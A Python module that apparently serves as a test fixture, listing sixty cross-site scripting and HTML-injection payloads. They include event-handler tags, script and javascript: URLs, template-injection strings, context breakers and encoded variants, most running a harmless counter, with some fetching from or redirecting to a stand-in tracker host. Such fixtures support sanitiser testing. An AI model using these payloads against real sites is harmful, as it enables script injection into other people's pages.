"""Sixty texts that run a script or fetch something where a page takes them for HTML."""

from __future__ import annotations

HIT = "window.__hit=(window.__hit||0)+1"
AFAR = "http://tracker.example"

_EVENTS = (
    "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror",
    "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus",
    "textarea autofocus onfocus", "marquee onstart", "iframe onload", "object data=x onerror",
    "embed src=x onerror", "style onload", "link rel=stylesheet href=x onerror",
    "img src=data:, onerror", "video onerror><source onerror", "svg><animate onbegin",
    "svg><set onbegin", "button autofocus onfocus", "a href=# autofocus tabindex=1 onfocus",
    "div contenteditable autofocus onfocus", "keygen autofocus onfocus", "img src onerror",
)  # fmt: skip
_BREAKS = ('"', "'", "</script>", "</style>", "</textarea>", "</title>", "-->", "]]>", "`", "\\'")
_WHOLE = (
    f"<script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script src=data:text/javascript,{HIT}></script>",
    f"<iframe srcdoc='<script>parent.{HIT.replace('window.', 'window.')}</script>'></iframe>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<svg><script>{HIT}</script></svg>",
    f"<math><a xlink:href=javascript:{HIT}>x</a></math>",
    f"<img src={AFAR}/x.png>",
    f"<link rel=stylesheet href={AFAR}/x.css>",
    f"<style>@import '{AFAR}/x.css'</style>",
    f"<meta http-equiv=refresh content='0;url={AFAR}'>",
    f"<base href={AFAR}/>",
    f"![x]({AFAR}/x.png)",
    f"[x](javascript:{HIT})",
    f"${{{HIT}}}",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"<%= {HIT} %>",
    f"javascript:{HIT}//",
    f"'-({HIT})-'",
    f'";{HIT}//',
    f"\\u003cimg src=x onerror={HIT}\\u003e",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"%3Cimg src=x onerror={HIT}%3E",
    f"<template><img src=x onerror={HIT}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
)

PAYLOADS: tuple[str, ...] = (
    *(f"<{event}='{HIT}'>" for event in _EVENTS),
    *(f"{text}><img src=x onerror={HIT}>" for text in _BREAKS),
    *_WHOLE,
)
assert len(PAYLOADS) == 60
